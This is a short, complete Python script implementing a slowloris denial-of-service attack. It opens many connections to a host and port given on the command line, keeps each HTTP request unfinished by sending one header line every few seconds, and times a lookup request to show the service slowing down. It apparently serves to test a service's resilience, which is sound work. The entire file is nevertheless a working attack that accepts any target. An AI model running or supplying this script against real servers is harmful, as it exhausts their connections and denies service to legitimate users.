# Usage: python3 conns.py HOST PORT N: N connections that send a request line and
# then one header line every 4 s (slowloris), while a lookup is timed.
import socket, time, sys, http.client, threading
H,P,N=sys.argv[1],int(sys.argv[2]),int(sys.argv[3])
socks=[]
t0=time.time()
for i in range(N):
    try:
        s=socket.create_connection((H,P),timeout=5); s.send(b"GET /api/v1/stats HTTP/1.1\r\nHost: 127.0.0.1\r\n"); socks.append(s)
    except Exception as e:
        print("open failed at",i,e); break
print("opened",len(socks),"in %.1fs"%(time.time()-t0))
def probe():
    c=http.client.HTTPConnection(H,P,timeout=20); t=time.time()
    try:
        c.request("GET","/api/v1/lookup?q=Iraq+defense&src=en&tgt=fr"); r=c.getresponse(); r.read(); return r.status,time.time()-t
    except Exception as e: return repr(e),time.time()-t
for k in range(4):
    # keep the slowloris alive: a header byte each round
    alive=0
    for s in socks:
        try: s.send(b"X-a: b\r\n"); alive+=1
        except Exception: pass
    print("t=%.0fs alive %d probe %s"%(time.time()-t0,alive,probe()))
    time.sleep(4)
